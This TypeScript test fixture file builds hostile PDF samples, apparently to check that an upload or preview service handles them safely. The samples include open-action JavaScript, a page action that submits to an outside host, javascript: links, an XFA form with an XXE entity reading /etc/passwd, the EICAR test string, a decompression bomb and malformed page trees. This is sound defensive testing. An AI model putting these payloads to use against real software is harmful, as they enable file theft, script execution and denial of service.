import { deflateSync } from 'node:zlib'
import { EICAR } from '../storage/eicar.ts'
import { type Hostile, infected, kept, OUTSIDE, SCRIPT } from './hostile.ts'
import { pdf } from './pdf.ts'

const shown = kept('application/pdf', 'pdf')
const unread = kept('application/pdf', 'failed')
const MEGABYTE = 1_048_576

/** So many megabytes of blanks, packed. */
function packedStream(megabytes: number): string {
  const packed = deflateSync(Buffer.alloc(megabytes * MEGABYTE, ' '), { level: 9 }).toString('hex')
  return `<< /Length ${packed.length + 1} /Filter [/ASCIIHexDecode /FlateDecode] >>\nstream\n${packed}>\nendstream`
}

export const PDFS: readonly Hostile[] = [
  {
    what: 'a PDF that runs a script when it is opened',
    name: 'script.pdf',
    content: () =>
      pdf({
        texts: ['Read me'],
        catalogue: `/OpenAction << /S /JavaScript /JS (app.alert\\(1\\);${SCRIPT.replaceAll(/[()]/g, '\\$&')}) >>`,
      }),
    end: shown,
  },
  {
    what: 'a PDF that calls out when a page is shown',
    name: 'calls.pdf',
    content: () =>
      pdf({
        texts: ['Read me'],
        page: `/AA << /O << /S /SubmitForm /F (${OUTSIDE}) >> /C << /S /URI /URI (${OUTSIDE}) >> >>`,
      }),
    end: shown,
  },
  {
    what: 'a PDF with links that are scripts',
    name: 'links.pdf',
    content: () =>
      pdf({
        texts: ['Click me'],
        page: '/Annots [100 0 R]',
        objects: [
          `<< /Type /Annot /Subtype /Link /Rect [0 0 612 792] /A << /S /URI /URI (javascript:${SCRIPT.replaceAll(/[()]/g, '\\$&')}) >> >>`,
        ],
      }),
    end: shown,
  },
  {
    what: 'a PDF with a form that has scripts of its own',
    name: 'form.pdf',
    content: () =>
      pdf({
        texts: ['Fill me'],
        catalogue: '/AcroForm << /Fields [] /XFA 100 0 R >>',
        objects: [
          `<< /Length 150 >>\nstream\n${`<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><xdp><script>${SCRIPT}</script>&e;</xdp>`.padEnd(150)}\nendstream`,
        ],
      }),
    end: shown,
  },
  {
    what: 'a PDF that carries the test virus',
    name: 'carries.pdf',
    content: () => pdf({ texts: ['Read me'], objects: [`<< /Length ${EICAR.length} >>\nstream\n${EICAR}\nendstream`] }),
    end: infected,
  },
  {
    what: 'a PDF whose pages are their own parents',
    name: 'circle.pdf',
    content: () =>
      Buffer.from(
        pdf({ texts: ['x'] })
          .toString('latin1')
          .replace('/Kids [10 0 R]', '/Kids [2 0 R ]'),
        'latin1',
      ),
    end: unread,
  },
  {
    what: 'a PDF that claims a million pages',
    name: 'million.pdf',
    content: () =>
      Buffer.from(
        pdf({ texts: ['x'] })
          .toString('latin1')
          .replace('/Count 1 ', '/Count 1000000 '),
        'latin1',
      ),
    end: unread,
  },
  {
    what: 'a PDF whose page unpacks to 100 MB',
    name: 'bomb.pdf',
    content: () => pdf({ texts: ['x'], page: '/Contents 100 0 R', objects: [packedStream(100)] }),
    end: shown,
  },
  {
    what: 'a PDF of which half is missing',
    name: 'half.pdf',
    content: () => {
      const whole = pdf({ texts: ['x'] })
      return whole.subarray(0, whole.length / 3)
    },
    end: unread,
  },
]
